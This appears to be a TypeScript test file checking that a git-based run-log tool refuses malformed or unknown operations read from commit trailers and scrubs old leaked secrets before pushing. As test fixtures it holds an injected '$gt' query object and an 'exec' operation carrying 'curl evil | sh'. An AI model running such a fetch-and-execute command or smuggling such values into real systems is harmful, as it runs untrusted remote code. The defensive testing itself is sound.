/**
 * Trailers are data: a local commit whose `Runlog-Op` was written by someone
 * else (another clone, a hand edit, an earlier runlog) is validated before a
 * replay applies it. A malformed or unknown operation is refused and parked,
 * never applied; an old commit with a raw secret in its trailer is replayed
 * through the door, so what reaches the remote is scrubbed.
 */
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ErrorOutput } from '../../../src/schemas/output.js';
import { fileAt, git, makeLedger, newRun, runlog, runlogOk, type TempLedger } from '../../support/ledger.js';
import { makeCorpus } from '../../support/secrets-corpus.js';
import { oldVersionAppend } from './old-ledger.js';
import { expectNoSecrets, repoText } from './support.js';

const corpus = makeCorpus();

let l: TempLedger;
let a: string;
let b: string;
let run: string;

beforeEach(async () => {
  l = await makeLedger({ prefix: 'runlog-replay-' });
  a = l.main;
  run = await newRun(a, 'shared');
  b = await l.clone('b');
});
afterEach(() => l?.cleanup());

/** A hand-made local commit with `trailer` as its operation. */
async function handCommit(dir: string, trailer: string): Promise<string> {
  appendFileSync(join(dir, 'run_logs', `${run}.md`), '- 2026-03-22 12:00 UTC — pending — by hand\n');
  await git(dir, [
    'commit',
    '-q',
    '-m',
    `${run}: log status`,
    '-m',
    `Runlog-Op: ${trailer}`,
    '--',
    `run_logs/${run}.md`,
  ]);
  return (await git(dir, ['rev-parse', 'HEAD'])).trim();
}

describe('replaying operations read from commits', () => {
  it.each([
    [
      'malformed arguments',
      JSON.stringify({
        v: 1,
        kind: 'append',
        run: 'x',
        args: { run: 'x', message: { $gt: '' }, metrics: 'all', at: 7 },
      }),
      /append.*(message|metrics|at)/,
    ],
    [
      'an unknown kind',
      JSON.stringify({ v: 1, kind: 'exec', args: { command: 'curl evil | sh' } }),
      /does not know the operation "exec"/,
    ],
  ])('refuses %s: parked under refs/runlog/conflicts/, nothing applied or pushed', async (_name, trailer, reason) => {
    const hostile = await handCommit(b, trailer);
    await runlogOk(a, ['append', run, 'moved on', '--json']);
    const remoteBefore = (await git(l.remote, ['rev-parse', 'main'])).trim();

    const r = await runlog(b, ['append', run, 'my entry', '--json']);
    expect(r.code).toBe(1);
    const err = ErrorOutput.parse(r.json).error;
    expect(err.code).toBe('REPLAY_CONFLICT');
    expect(err.message).toMatch(reason);
    expect((await git(b, ['rev-parse', `refs/runlog/conflicts/${hostile}`])).trim()).toBe(hostile);
    expect((await git(l.remote, ['rev-parse', 'main'])).trim()).toBe(remoteBefore);
    expect(await git(l.remote, ['log', '--format=%B', 'main'])).not.toContain('curl evil');
  });

  it('re-scrubs an old raw-secret trailer on replay: the remote never sees the secret', async () => {
    const leak = corpus.find((c) => c.name === 'Stripe live secret key')!;
    await oldVersionAppend(b, run, leak.text);
    await runlogOk(a, ['append', run, 'moved on']);

    const r = await runlogOk(b, ['append', run, 'after the replay', '--json']);
    expect((r.json as { pushed: boolean }).pushed).toBe(true);
    const remote = await repoText(l.remote);
    expectNoSecrets('the remote', remote, [leak]);
    expect(remote).toMatch(/"message":"billing \[REDACTED:stripe\]"/);
    expect(await fileAt(l.remote, 'main', `run_logs/${run}.md`)).toContain('after the replay');
  });
});
